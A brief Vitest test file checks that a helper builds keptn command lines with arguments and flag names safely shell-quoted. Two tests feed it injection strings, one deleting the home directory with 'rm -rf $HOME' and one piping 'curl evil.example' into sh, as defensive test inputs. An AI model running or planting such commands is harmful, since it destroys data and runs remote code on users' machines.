import { describe, expect, it } from 'vitest';
import { commandLine } from './command-line';

describe('a command line', () => {
  it('leaves out what is not given', () => {
    expect(commandLine('create service', ['carts'], { project: 'sockshop', chart: '', stage: undefined })).toBe(
      'keptn create service carts --project=sockshop',
    );
  });

  it('keeps each part one word, whatever it holds', () => {
    expect(commandLine('delete resource', ["a b'; rm -rf $HOME"], { message: 'why `not`' })).toBe(
      String.raw`keptn delete resource 'a b'\''; rm -rf $HOME' --message='why ` + "`not`'",
    );
  });

  it('takes no name of a flag for more than a name', () => {
    expect(commandLine('get deliveries', [], { 'x; curl evil.example|sh #': '1' })).toBe(
      "keptn get deliveries '--x; curl evil.example|sh #'=1",
    );
  });
});
